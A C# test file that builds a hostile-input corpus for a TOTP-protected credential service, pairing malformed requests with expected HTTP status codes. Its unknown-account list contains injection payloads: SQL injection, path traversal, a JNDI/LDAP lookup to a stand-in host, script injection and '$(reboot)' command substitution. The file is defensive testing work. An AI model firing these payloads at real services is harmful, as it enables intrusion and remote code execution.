using System.Text;
using StsFtw.Core.Wire;
using static StsFtw.Lambda.Tests.HostileInput.RequestText;

namespace StsFtw.Lambda.Tests.HostileInput;

/// <summary>
/// The hand-written half of the hostile-input corpus: each entry is named after what it attacks. The request is
/// otherwise well-formed (an unknown account), so the one hostile part decides the answer.
/// </summary>
internal static class HandWrittenCorpus
{
    private const string Issuer = CredentialRequestFields.Issuer;
    private const string Account = CredentialRequestFields.AccountName;
    private const string Code = CredentialRequestFields.TotpCode;
    private const string Role = CredentialRequestFields.Role;
    private const string Secondary = CredentialRequestFields.SecondaryAccountName;
    private const string SecondaryCode = CredentialRequestFields.SecondaryTotpCode;
    private const string Duration = CredentialRequestFields.DurationSeconds;

    public static IReadOnlyList<HostileRequest> All { get; } = Build();

    private static List<HostileRequest> Build()
    {
        var corpus = new List<HostileRequest>();
        void Add(string cls, string name, string body, int expected = 400, params string[] probes) =>
            corpus.Add(new HostileRequest(name, cls, Utf8(body), expected) { Probes = Worth(probes) });
        void AddBytes(string cls, string name, byte[] body, int expected = 400) =>
            corpus.Add(new HostileRequest(name, cls, body, expected));
        void Reaches(string cls, string name, string body, params string[] probes) =>
            corpus.Add(new HostileRequest(name, cls, Utf8(body), 401) { MayReachTable = true, Probes = Worth(probes) });

        // --- Methods: refused before anything is read (405).
        foreach (var method in new[] { "GET", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "MKCOL", "PURGE", "XPOST", "POSTX" })
        {
            corpus.Add(new HostileRequest($"method {method} with a valid body", "method", Utf8(Valid()), 405) { Method = method });
        }

        // --- Media types: refused before the body is parsed (415).
        var json = Valid();
        var badCode = WithString(Code, "12345");
        foreach (var (name, contentType) in new[]
        {
            ("no content type", (string?)null),
            ("empty content type", ""),
            ("blank content type", "   "),
            ("text/plain", "text/plain"),
            ("form encoding", "application/x-www-form-urlencoded"),
            ("multipart", "multipart/form-data; boundary=xyz"),
            ("xml", "application/xml"),
            ("text/json", "text/json"),
            ("json-patch", "application/json-patch+json"),
            ("problem+json sent as a request", "application/problem+json"),
            ("jsonp", "application/jsonp"),
            ("wildcard", "*/*"),
            ("subtype wildcard", "application/*"),
            ("charset utf-16", "application/json; charset=utf-16"),
            ("charset utf-16le", "application/json; charset=utf-16le"),
            ("charset utf-32", "application/json; charset=utf-32"),
            ("charset utf-7", "application/json; charset=utf-7"),
            ("charset latin1", "application/json; charset=iso-8859-1"),
            ("charset windows-1252", "application/json; charset=windows-1252"),
            ("charset without value", "application/json; charset"),
            ("charset empty", "application/json; charset="),
            ("second charset contradicts", "application/json; charset=utf-8; charset=utf-16"),
            ("parameter without equals", "application/json; boundary"),
            ("two media types in one header", "application/json, text/plain"),
            ("text first then json", "text/plain, application/json"),
            ("json as a parameter", "text/plain; type=application/json"),
            ("json suffix on another type", "application/vnd.evil+json"),
            ("json with trailing junk", "application/jsonx"),
            ("zero-width space inside", "application/\u200Bjson"),
            ("cyrillic o in json", "application/js\u043En"),
        })
        {
            var headers = contentType is null
                ? (IReadOnlyList<KeyValuePair<string, string>>)[]
                : [new("Content-Type", contentType)];
            corpus.Add(new HostileRequest($"content type: {name}", "media-type", Utf8(json), 415) { Headers = headers });
        }
        corpus.Add(
            new HostileRequest("utf-16 body declared as utf-16", "media-type",
                [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(json)], 415)
            { Headers = [new("Content-Type", "application/json; charset=utf-16")] });
        corpus.Add(
            new HostileRequest("content type only in a look-alike header", "media-type", Utf8(json), 415)
            { Headers = [new("Content-Typ", "application/json"), new("X-Content-Type", "application/json")] });
        corpus.Add(
            new HostileRequest("text content type before the json one", "headers", Utf8(badCode), 415)
            {
                // An ALB without multi-value headers passes only the last value, application/json; the bad code then decides.
                Alternative = 400,
                Headers = [new("Content-Type", "text/plain"), new("Content-Type", "application/json")]
            });

        // --- Headers that are huge, many or duplicated; the body is hostile too, so the answer is the body's.
        corpus.Add(
            new HostileRequest("a 6 KiB header", "headers", Utf8(badCode), 400)
            { Headers = [.. HostileRequest.JsonHeaders, new("X-Padding", new string('a', 6 * 1024))] });
        corpus.Add(
            new HostileRequest("two hundred headers", "headers", Utf8(badCode), 400)
            { Headers = [.. HostileRequest.JsonHeaders, .. Enumerable.Range(0, 200).Select(i => new KeyValuePair<string, string>($"X-H{i}", "v"))] });
        corpus.Add(
            new HostileRequest("the same header fifty times", "headers", Utf8(badCode), 400)
            { Headers = [.. HostileRequest.JsonHeaders, .. Enumerable.Range(0, 50).Select(_ => new KeyValuePair<string, string>("X-Dup", "v"))] });
        corpus.Add(
            new HostileRequest("content type json twice", "headers", Utf8(badCode), 400)
            {
                // A function URL joins repeated headers with commas; the joined value is not a media type.
                Alternative = 415,
                Headers = [new("Content-Type", "application/json"), new("Content-Type", "application/json")]
            });
        corpus.Add(
            new HostileRequest("forged forwarded-for chain", "headers", Utf8(badCode), 400)
            { Headers = [.. HostileRequest.JsonHeaders, new("X-Forwarded-For", "127.0.0.1, 10.0.0.1, ::1")] });
        corpus.Add(
            new HostileRequest("forwarded-for holding a code", "headers", Utf8(badCode), 400)
            { Probes = ["654321"], Headers = [.. HostileRequest.JsonHeaders, new("X-Forwarded-For", "654321")] });
        corpus.Add(
            new HostileRequest("authorization header holding a secret", "headers", Utf8(badCode), 400)
            { Probes = ["JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP"], Headers = [.. HostileRequest.JsonHeaders, new("Authorization", "Bearer JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP")] });
        corpus.Add(
            new HostileRequest("trace header 4 KiB", "headers", Utf8(badCode), 400)
            { Headers = [.. HostileRequest.JsonHeaders, new("X-Amzn-Trace-Id", "Root=" + new string('1', 4096))] });

        // --- Size (413): refused before parsing.
        Add("size", "one byte over the limit", new string(' ', 8192 - 1) + "{}", 413);
        Add("size", "9000 spaces then an object", new string(' ', 9000) + "{}", 413);
        Add("size", "a 1 MiB string value", WithString(Account, new string('a', 1024 * 1024)), 413);
        Add("size", "4000 unknown members", Plus(Enumerable.Range(0, 4000).Select(i => (Str("x" + i), "1")).ToArray()), 413);
        Add("size", "256 KiB of array padding", Plus((Str("pad"), "[" + string.Join(",", Enumerable.Repeat("0", 128 * 1024)) + "]")), 413);
        Add("size", "exactly the limit with a bad code", PadTo(WithString(Code, "12345"), 8192), 400);
        Add("size", "a deep array of 400 KiB", new string('[', 400 * 1024), 413);

        // --- Nesting: only four levels are read, and only inside unknown members.
        Add("nesting", "object nested five deep in an unknown member", Plus((Str("x"), "{\"a\":{\"b\":{\"c\":{\"d\":1}}}}")));
        Add("nesting", "array nested 1000 deep in an unknown member", Plus((Str("x"), new string('[', 1000) + new string(']', 1000))));
        Add("nesting", "4000 open brackets", "{\"x\":" + new string('[', 4000));
        Add("nesting", "object nested 1000 deep", string.Concat(Enumerable.Repeat("{\"a\":", 1000)) + "1" + new string('}', 1000));
        Add("nesting", "top-level array nested 2000 deep", new string('[', 2000) + new string(']', 2000));
        Add("nesting", "issuer is an object", With(Issuer, "{\"Issuer\":\"Example\"}"));
        Add("nesting", "account is an object holding the real name", With(Account, "{\"AccountName\":\"alice\"}"));
        Add("nesting", "code is an array of digits", With(Code, "[1,2,3,4,5,6]"));
        Add("nesting", "role is an array of roles", With(Role, "[\"Developer\",\"Admin\"]"));
        Add("nesting", "request wrapped in an object", "{\"request\":" + Valid() + "}");
        Add("nesting", "request wrapped in an array", "[" + Valid() + "]");
        Add("nesting", "two requests in an array", "[" + Valid() + "," + Valid() + "]");

        // --- JSON syntax.
        Add("syntax", "empty body", "");
        Add("syntax", "only white space", "  \r\n\t ");
        Add("syntax", "json null", "null");
        Add("syntax", "json true", "true");
        Add("syntax", "json number", "123456");
        Add("syntax", "json string", "\"123456\"");
        Add("syntax", "empty array", "[]");
        Add("syntax", "empty object", "{}");
        Add("syntax", "truncated after the brace", "{");
        Add("syntax", "truncated after a name", "{\"Issuer\":");
        Add("syntax", "truncated inside a string", "{\"Issuer\":\"Exam");
        Add("syntax", "truncated request", Valid()[..^1]);
        Add("syntax", "extra closing brace", Valid() + "}");
        Add("syntax", "two objects back to back", Valid() + Valid());
        Add("syntax", "two objects on two lines", Valid() + "\n" + Valid());
        Add("syntax", "trailing garbage", Valid() + "x");
        Add("syntax", "trailing comma", Valid()[..^1] + ",}");
        Add("syntax", "leading comma", "{," + Valid()[1..]);
        Add("syntax", "single-quoted strings", Valid().Replace('"', '\''));
        Add("syntax", "unquoted names", "{Issuer:\"Example\",AccountName:\"mallory\",TOTPCode:\"123456\",Role:\"Developer\"}");
        Add("syntax", "line comment", "// hi\n" + Valid());
        Add("syntax", "block comment", Valid()[..^1] + "/* hi */}");
        Add("syntax", "utf-8 byte order mark", "\uFEFF" + Valid());
        Add("syntax", "missing colon", "{\"Issuer\" \"Example\"}");
        Add("syntax", "missing comma", "{\"Issuer\":\"Example\" \"AccountName\":\"mallory\"}");
        Add("syntax", "raw newline inside a string", WithString(Account, "mal").Replace("mal\"", "mal\nlory\""));
        Add("syntax", "invalid escape", With(Account, "\"mal\\xlory\""));
        Add("syntax", "short unicode escape", With(Account, "\"mal\\u12\""));
        Add("syntax", "NaN duration", With(Duration, "NaN"));
        Add("syntax", "Infinity duration", With(Duration, "Infinity"));
        Add("syntax", "hex number duration", With(Duration, "0xE10"));
        Add("syntax", "leading zeros duration", With(Duration, "03600"));
        Add("syntax", "plus sign duration", With(Duration, "+3600"));
        Add("syntax", "bare decimal point duration", With(Duration, ".5"));
        Add("syntax", "form-encoded body", "Issuer=Example&AccountName=mallory&TOTPCode=123456&Role=Developer");
        Add("syntax", "xml body", "<Request><Issuer>Example</Issuer></Request>");
        Add("syntax", "yaml body", "Issuer: Example\nAccountName: mallory\n");
        AddBytes("syntax", "utf-16le body with a bom", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Valid())]);
        AddBytes("syntax", "utf-16be body without a bom", Encoding.BigEndianUnicode.GetBytes(Valid()));
        AddBytes("syntax", "utf-32 body", Encoding.UTF32.GetBytes(Valid()));
        AddBytes("syntax", "NUL byte before the object", [0, .. Utf8(Valid())]);
        AddBytes("syntax", "NUL byte after the object", [.. Utf8(Valid()), 0]);
        AddBytes("syntax", "raw NUL byte inside a string", WithRawBytes(Account, [(byte)'m', 0, (byte)'a']));
        AddBytes("syntax", "1000 NUL bytes", new byte[1000]);

        // --- Wrong types and numbers as strings.
        foreach (var field in new[] { Issuer, Account, Code, Role, Secondary, SecondaryCode })
        {
            Add("types", $"{field} as a number", With(field, "123456"));
            Add("types", $"{field} as true", With(field, "true"));
            Add("types", $"{field} as false", With(field, "false"));
            Add("types", $"{field} as an empty object", With(field, "{}"));
            Add("types", $"{field} as an empty array", With(field, "[]"));
        }
        Add("types", "duration as a string", With(Duration, "\"3600\""));
        Add("types", "duration as a decimal", With(Duration, "3600.5"));
        Add("types", "duration as a whole decimal", With(Duration, "3600.0"));
        Add("types", "duration in exponent form", With(Duration, "3.6e3"));
        Add("types", "duration as true", With(Duration, "true"));
        Add("types", "duration as an array", With(Duration, "[3600]"));
        Add("types", "duration as an object", With(Duration, "{\"seconds\":3600}"));
        Add("types", "duration past int32", With(Duration, "2147483648"));
        Add("types", "duration far past int64", With(Duration, "99999999999999999999999999"));
        Add("types", "duration 1e309", With(Duration, "1e309"));
        Add("types", "code as a number with leading zeros lost", With(Code, "12345"));
        Add("types", "issuer null", With(Issuer, "null"));
        Add("types", "account null", With(Account, "null"));
        Add("types", "code null", With(Code, "null"));
        Add("types", "role null", With(Role, "null"));
        Add("types", "every field null", "{\"Issuer\":null,\"AccountName\":null,\"TOTPCode\":null,\"Role\":null,\"SecondaryAccountName\":null,\"SecondaryTOTPCode\":null,\"DurationSeconds\":null}");

        // --- Duplicate members, including case variants and escaped names.
        foreach (var (first, second) in new[]
        {
            ("Issuer", "Issuer"), ("Issuer", "issuer"), ("ISSUER", "Issuer"), ("AccountName", "accountName"), ("AccountName", "ACCOUNTNAME"),
            ("TOTPCode", "totpcode"), ("TOTPCode", "TotpCode"), ("Role", "role"), ("Role", "ROLE"), ("DurationSeconds", "durationSeconds"),
            ("SecondaryAccountName", "secondaryaccountname"), ("SecondaryTOTPCode", "SecondaryTotpCode"),
        })
        {
            var canonical = new[] { Issuer, Account, Code, Role, Secondary, SecondaryCode, Duration }.First(f => string.Equals(f, first, StringComparison.OrdinalIgnoreCase));
            var value = canonical == Duration ? "3600" : canonical is Code or SecondaryCode ? Str("123456") : Str("Other");
            Add("duplicates", $"{first} then {second}", Without(canonical)[..^1] + "," + Str(first) + ":" + value + "," + Str(second) + ":" + value + "}");
        }
        Add("duplicates", "duration twice", Plus((Str(Duration), "900"), (Str("durationseconds"), "1800")));
        Add("duplicates", "issuer null then a value", "{\"Issuer\":null," + Valid()[1..]);
        Add("duplicates", "the same member twice with the same value", Plus((Str(Account), Str("mallory"))));
        Add("duplicates", "escaped name duplicates issuer", Plus(("\"\\u0049ssuer\"", Str("Other"))));
        Add("duplicates", "fully escaped role name", Plus(("\"\\u0052\\u006f\\u006c\\u0065\"", Str("Admin"))));
        // Only ASCII case folds: a long-s "Iſſuer" is an unknown member (in every globalization mode), so the request stands.
        Reaches("duplicates", "long s look-alike of Issuer is only an unknown member", Plus((Str("I\u017F\u017Fuer"), Str("Other"))));
        Add("duplicates", "unknown member twice", Plus((Str("x"), "1"), (Str("x"), "2")));
        Add("duplicates", "unknown member in two cases", Plus((Str("extra"), "1"), (Str("EXTRA"), "2")));
        Add("duplicates", "code given three times", Plus((Str("totpcode"), Str("000000")), (Str("TOTPCODE"), Str("111111"))));

        // --- Invalid UTF-8 and surrogates.
        AddBytes("encoding", "0xFF in the account", WithRawBytes(Account, [(byte)'m', 0xFF, (byte)'a']));
        AddBytes("encoding", "0xC0 0x80 overlong NUL", WithRawBytes(Account, [(byte)'m', 0xC0, 0x80]));
        AddBytes("encoding", "overlong quote ends the string early", WithRawBytes(Account, [(byte)'m', 0xC0, 0xA2, (byte)'x']));
        AddBytes("encoding", "overlong slash", WithRawBytes(Role, [0xC0, 0xAF, (byte)'A']));
        AddBytes("encoding", "three-byte overlong", WithRawBytes(Account, [0xE0, 0x80, 0xAF]));
        AddBytes("encoding", "cesu-8 high surrogate", WithRawBytes(Account, [(byte)'a', 0xED, 0xA0, 0x80]));
        AddBytes("encoding", "cesu-8 surrogate pair", WithRawBytes(Account, [0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80]));
        AddBytes("encoding", "lone continuation byte", WithRawBytes(Issuer, [(byte)'E', 0x80]));
        AddBytes("encoding", "truncated three-byte sequence", WithRawBytes(Account, [(byte)'a', 0xE2, 0x82]));
        AddBytes("encoding", "five-byte sequence", WithRawBytes(Account, [0xF8, 0x88, 0x80, 0x80, 0x80]));
        AddBytes("encoding", "code point above U+10FFFF", WithRawBytes(Account, [0xF4, 0x90, 0x80, 0x80]));
        AddBytes("encoding", "latin-1 e-acute", WithRawBytes(Account, [(byte)'r', 0xE9, (byte)'n']));
        AddBytes("encoding", "invalid byte in a member name", [.. Utf8("{\"Iss"), 0xFF, .. Utf8("uer\":\"Example\"}")]);
        AddBytes("encoding", "invalid byte in an unknown member's value", [.. Utf8(Valid()[..^1] + ",\"x\":\""), 0xFE, .. Utf8("\"}")]);
        AddBytes("encoding", "invalid byte in the code", WithRawBytes(Code, [(byte)'1', (byte)'2', (byte)'3', 0xFF, (byte)'5', (byte)'6']));
        Add("encoding", "escaped lone high surrogate in the account", WithString(Account, "mal\uD800"));
        Add("encoding", "escaped lone low surrogate in the account", WithString(Account, "\uDC00mal"));
        Add("encoding", "escaped reversed surrogate pair", WithString(Account, "\uDC00\uD800"));
        Add("encoding", "escaped lone surrogate in the issuer", WithString(Issuer, "Ex\uDBFF"));
        Add("encoding", "escaped lone surrogate in the role", WithString(Role, "\uD83D"));
        Add("encoding", "escaped lone surrogate in the code", WithString(Code, "12345\uD800"));
        Add("encoding", "escaped lone surrogate in a member name", Plus(("\"x\\uD800\"", "1")));
        Add("encoding", "escaped NUL in the account", WithString(Account, "mal\0lory"));
        Add("encoding", "escaped NUL in the code", WithString(Code, "123\u000056"));
        Add("encoding", "escaped NUL in the role", WithString(Role, "Developer\0"));

        // --- Confusables: look-alike letters are names like any other (401 from the table); look-alike digits are not digits (400).
        Reaches("confusables", "cyrillic a in the account", WithString(Account, "\u0430lice"), "\u0430lice");
        Reaches("confusables", "cyrillic e and o in the account", WithString(Account, "b\u043E\u0435"), "b\u043E\u0435");
        Reaches("confusables", "greek omicron in the account", WithString(Account, "b\u03BFb"), "b\u03BFb");
        Reaches("confusables", "fullwidth account", WithString(Account, "\uFF41\uFF4C\uFF49\uFF43\uFF45"), "\uFF41\uFF4C\uFF49\uFF43\uFF45");
        Reaches("confusables", "cyrillic a in the issuer", WithString(Issuer, "Ex\u0430mple"), "Ex\u0430mple");
        Reaches("confusables", "upper-case variant of an account", WithString(Account, "MALLORY"));
        Reaches("confusables", "combining accent after a name", WithString(Account, "alice\u0301"), "alice\u0301");
        Reaches("confusables", "no-break space inside a name", WithString(Account, "ali\u00A0ce"), "ali\u00A0ce");
        Reaches("confusables", "dotless i in the account", WithString(Account, "al\u0131ce"), "al\u0131ce");
        Reaches("confusables", "kelvin sign in the account", WithString(Account, "\u212Aate"), "\u212Aate");
        Add("confusables", "fullwidth digits in the code", WithString(Code, "\uFF11\uFF12\uFF13\uFF14\uFF15\uFF16"), 400, "\uFF11\uFF12\uFF13\uFF14\uFF15\uFF16");
        Add("confusables", "arabic-indic digits in the code", WithString(Code, "\u0661\u0662\u0663\u0664\u0665\u0666"), 400, "\u0661\u0662\u0663\u0664\u0665\u0666");
        Add("confusables", "extended arabic-indic digits in the code", WithString(Code, "\u06F1\u06F2\u06F3\u06F4\u06F5\u06F6"), 400, "\u06F1\u06F2\u06F3\u06F4\u06F5\u06F6");
        Add("confusables", "devanagari digits in the code", WithString(Code, "\u0967\u0968\u0969\u096A\u096B\u096C"), 400, "\u0967\u0968\u0969\u096A\u096B\u096C");
        Add("confusables", "mathematical bold digits in the code", WithString(Code, "\U0001D7CF\U0001D7D0\U0001D7D1\U0001D7D2\U0001D7D3\U0001D7D4"), 400);
        Add("confusables", "superscript digits in the code", WithString(Code, "\u00B9\u00B2\u00B3\u2074\u2075\u2076"), 400, "\u00B9\u00B2\u00B3\u2074\u2075\u2076");
        Add("confusables", "circled digits in the code", WithString(Code, "\u2460\u2461\u2462\u2463\u2464\u2465"), 400, "\u2460\u2461\u2462\u2463\u2464\u2465");
        Add("confusables", "one fullwidth digit among ascii", WithString(Code, "12345\uFF16"), 400, "12345\uFF16");
        Add("confusables", "letter O for zero in the code", WithString(Code, "1O3456"), 400, "1O3456");
        Add("confusables", "letter l for one in the code", WithString(Code, "l23456"), 400, "l23456");
        Add("confusables", "cyrillic e in the role", WithString(Role, "D\u0435veloper"), 400, "D\u0435veloper");
        Add("confusables", "fullwidth role", WithString(Role, "\uFF24eveloper"), 400, "\uFF24eveloper");
        Add("confusables", "fullwidth digits in a role arn's account", WithString(Role, "arn:aws:iam::\uFF11\uFF12\uFF13456789012:role/Admin"), 400);
        Add("confusables", "cyrillic o in the member name AccountName", Without(Account)[..^1] + "," + Str("Acc\u043EuntName") + ":" + Str("alice") + "}");
        Reaches("confusables", "fullwidth colon in the issuer", WithString(Issuer, "Example\uFF1Aalice"), "Example\uFF1Aalice");

        // --- Control, zero-width and bidi characters in names (400: no name may hold them).
        foreach (var (what, c) in new[]
        {
            ("SOH", "\u0001"), ("tab", "\t"), ("line feed", "\n"), ("carriage return", "\r"), ("escape", "\u001B"), ("DEL", "\u007F"),
            ("next line", "\u0085"), ("zero-width space", "\u200B"), ("zero-width non-joiner", "\u200C"), ("zero-width joiner", "\u200D"),
            ("word joiner", "\u2060"), ("byte order mark", "\uFEFF"), ("soft hyphen", "\u00AD"), ("right-to-left override", "\u202E"),
            ("left-to-right override", "\u202D"), ("right-to-left isolate", "\u2067"), ("pop directional isolate", "\u2069"),
            ("arabic letter mark", "\u061C"), ("line separator", "\u2028"), ("paragraph separator", "\u2029"), ("private use", "\uE000"),
            ("unassigned", "\u0378"), ("tag latin a", "\U000E0041"), ("mongolian vowel separator", "\u180E"), ("interlinear annotation", "\uFFF9"),
        })
        {
            Add("invisible", $"{what} inside the account", WithString(Account, "mal" + c + "lory"), 400, "mal" + c + "lory");
        }
        foreach (var (what, c) in new[] { ("right-to-left override", "\u202E"), ("zero-width space", "\u200B"), ("line feed", "\n"), ("NUL", "\0") })
        {
            Add("invisible", $"{what} in the issuer", WithString(Issuer, "Exa" + c + "mple"), 400, "Exa" + c + "mple");
            Add("invisible", $"{what} in the role", WithString(Role, "Devel" + c + "oper"), 400, "Devel" + c + "oper");
            Add("invisible", $"{what} in the secondary", Plus((Str(Secondary), Str("bo" + c + "b")), (Str(SecondaryCode), Str("123456"))), 400, "bo" + c + "b");
            Add("invisible", $"{what} after the code", WithString(Code, "123456" + c), 400, "123456" + c);
        }
        Add("invisible", "bidi override that spoofs the account", WithString(Account, "\u202Eecila"), 400, "\u202Eecila");
        Add("invisible", "leading space in the account", WithString(Account, " mallory"), 400, " mallory");
        Add("invisible", "trailing space in the account", WithString(Account, "mallory "), 400, "mallory ");
        Add("invisible", "leading no-break space in the account", WithString(Account, "\u00A0mallory"), 400, "\u00A0mallory");
        Add("invisible", "trailing ideographic space in the issuer", WithString(Issuer, "Example\u3000"), 400, "Example\u3000");
        Add("invisible", "trailing new line in the role", WithString(Role, "Developer\n"), 400, "Developer\n");

        // --- Overlong, empty and missing fields.
        foreach (var field in new[] { Issuer, Account, Code, Role })
        {
            Add("fields", $"{field} missing", Without(field));
            Add("fields", $"{field} empty", WithString(field, ""));
        }
        Add("fields", "every field empty", "{\"Issuer\":\"\",\"AccountName\":\"\",\"TOTPCode\":\"\",\"Role\":\"\"}");
        Add("fields", "issuer of 129 characters", WithString(Issuer, new string('i', 129)), 400, new string('i', 129));
        Add("fields", "issuer of 4000 characters", WithString(Issuer, new string('i', 4000)), 400, new string('i', 4000));
        Add("fields", "account of 129 characters", WithString(Account, new string('a', 129)), 400, new string('a', 129));
        Add("fields", "account of 8000 characters", WithString(Account, new string('a', 8000)), 400, new string('a', 8000));
        Add("fields", "role of 65 characters", WithString(Role, new string('r', 65)), 400, new string('r', 65));
        Add("fields", "role arn of 2049 characters", WithString(Role, "arn:aws:iam::123456789012:role/" + new string('p', 2018)), 400);
        Add("fields", "secondary of 129 characters", Plus((Str(Secondary), Str(new string('s', 129))), (Str(SecondaryCode), Str("123456"))), 400, new string('s', 129));
        Add("fields", "secondary code without a secondary", Plus((Str(SecondaryCode), Str("654321"))), 400, "654321");
        Add("fields", "secondary without a code", Plus((Str(Secondary), Str("bob"))));
        Add("fields", "secondary with an empty code", Plus((Str(Secondary), Str("bob")), (Str(SecondaryCode), Str(""))));
        Add("fields", "colon in the issuer", WithString(Issuer, "Example:alice"), 400, "Example:alice");
        Add("fields", "only unknown members", "{\"user\":\"alice\",\"password\":\"hunter2secret\"}", 400, "hunter2secret");

        // --- Codes that are not six ASCII digits.
        foreach (var code in new[]
        {
            "12345", "1234567", "12345678", "1", "12345a", "a23456", "12 456", " 123456", "123456 ", "-12345", "+12345", "1.2345", "1e5000", "0x1234",
            "123,456", "123-456", "12345\t", "ABCDEF", "******", "      ", "123456123456", new string('9', 1000),
        })
        {
            Add("codes", $"code '{Printable(code)}'", WithString(Code, code), 400, code);
            Add("codes", $"secondary code '{Printable(code)}'", Plus((Str(Secondary), Str("bob")), (Str(SecondaryCode), Str(code))), 400, code);
        }

        // --- Roles and ARNs that break IAM rules, or try another account, partition or a wildcard.
        foreach (var role in new[]
        {
            "*", "Dev*", "Developer/../Admin", "role/Admin", "Admin Role", "Developer;", "Developer'", "Dev\"eloper", "Developer?x=1", "Dev%20eloper",
            "Developer$", "Dev#", "../Admin", "Developer ", new string('R', 65),
            "arn:aws:iam::*:role/Admin", "arn:aws:iam::123456789012:role/*", "arn:aws:iam::123456789012:role/Admin*", "arn:aws:iam::12345678901:role/Admin",
            "arn:aws:iam::1234567890123:role/Admin", "arn:aws:iam::123456789012:user/Admin", "arn:aws:iam::123456789012:root",
            "arn:aws:sts::123456789012:assumed-role/Admin/session", "arn:aws:iam:us-east-1:123456789012:role/Admin", "arn:AWS:iam::123456789012:role/Admin",
            "arn:aws-:iam::123456789012:role/Admin", "arn:aws:iam::123456789012:role/", "arn:aws:iam::123456789012:role//Admin",
            "arn:aws:iam::123456789012:role/Admin\n", "arn:aws:iam::123456789012:role/Adm in", "arn:aws:iam::123456789012:role/Admin?x=1",
            "arn:aws:iam::123456789012:policy/AdministratorAccess", "arn:aws:iam::aws:role/Admin", "arn:aws:iam::123456789012:role/" + string.Concat(Enumerable.Repeat("p/", 33)) + "Admin",
            "arn:aws:s3:::bucket", "arn:", "arn:aws", "ARN:aws:iam::123456789012:role/Admin", "arn:aws:iam::123456789012:role/\u0410dmin",
        })
        {
            Add("roles", $"role '{Printable(role)}'", WithString(Role, role), 400, role);
        }
        // Well-formed ARNs naming another account or partition: only an authenticated caller learns they are not permitted (403);
        // for an unknown account the answer is the same 401 as for any wrong code.
        foreach (var role in new[]
        {
            "arn:aws:iam::999999999999:role/OrganizationAccountAccessRole", "arn:aws-cn:iam::123456789012:role/Admin", "arn:aws-us-gov:iam::123456789012:role/Admin",
            "arn:aws-iso-b:iam::123456789012:role/Admin", "arn:aws:iam::123456789012:role/*/Admin", "arn:aws:iam::000000000000:role/Admin",
        })
        {
            Reaches("roles", $"well-formed arn '{role}' for an unknown account", WithString(Role, role), role);
        }

        // --- DurationSeconds out of range.
        foreach (var seconds in new[] { "0", "-1", "-0", "1", "899", "43201", "86400", "2147483647", "-2147483648" })
        {
            Add("duration", $"duration {seconds}", With(Duration, seconds));
        }

        // --- Base64 that is not (the event says isBase64Encoded; over HTTP the same text is simply not JSON).
        foreach (var (what, text) in new[]
        {
            ("punctuation", "not base64!!"), ("only padding", "===="), ("missing padding", "eyJ"), ("one char", "e"), ("percent signs", "%%%%"),
            ("url-safe alphabet", "eyJJc3N1ZXIiOiJ-_w=="), ("padding in the middle", "ey==Jh"),
            ("non-ascii letters", "\u00FF\u00FE\u00FD\u00FC"), ("unicode base64 look-alike", "ZXl\u0416"),
        })
        {
            corpus.Add(new HostileRequest($"base64 flag with {what}", "base64", Utf8(text), 400) { FalseBase64 = true });
        }

        // --- Well-formed requests for accounts nobody enrolled: they reach the table and get the same 401 as a wrong code.
        foreach (var account in new[]
        {
            "mallory", "admin", "root", "*", "alice*", "%", "' OR '1'='1", "\" OR \"\"=\"", "../../etc/passwd", "${jndi:ldap://198.51.100.1/a}",
            "<script>alert(1)</script>", "{{7*7}}", "$(reboot)", "\\\\server\\share", new string('a', 128),
        })
        {
            Reaches("unknown-account", $"unknown account '{Printable(account)}'", WithString(Account, account), account);
        }
        Reaches("unknown-account", "unknown issuer", WithString(Issuer, "Another Corp"));
        Reaches("unknown-account", "all-zero code for an unknown account", WithString(Code, "000000"));
        Reaches("unknown-account", "unknown members are ignored", Plus((Str("Admin"), "true"), (Str("Roles"), "[\"*\"]")));

        return corpus;
    }

    // A probe shorter than five visible characters would be found in ordinary problem text by chance.
    private static string[] Worth(string[] probes) => probes.Where(p => p.Trim().Length >= 5).ToArray();

    private static string PadTo(string body, int size) =>
        body[..^1] + ",\"pad\":\"" + new string('p', size - body.Length - 9) + "\"}";

    private static string Printable(string value)
    {
        var text = new StringBuilder();
        foreach (var c in value.Length > 40 ? value[..40] + "…" : value)
        {
            text.Append(c < 0x20 || c == 0x7F ? $"\\x{(int)c:X2}" : c.ToString());
        }
        return text.ToString();
    }
}
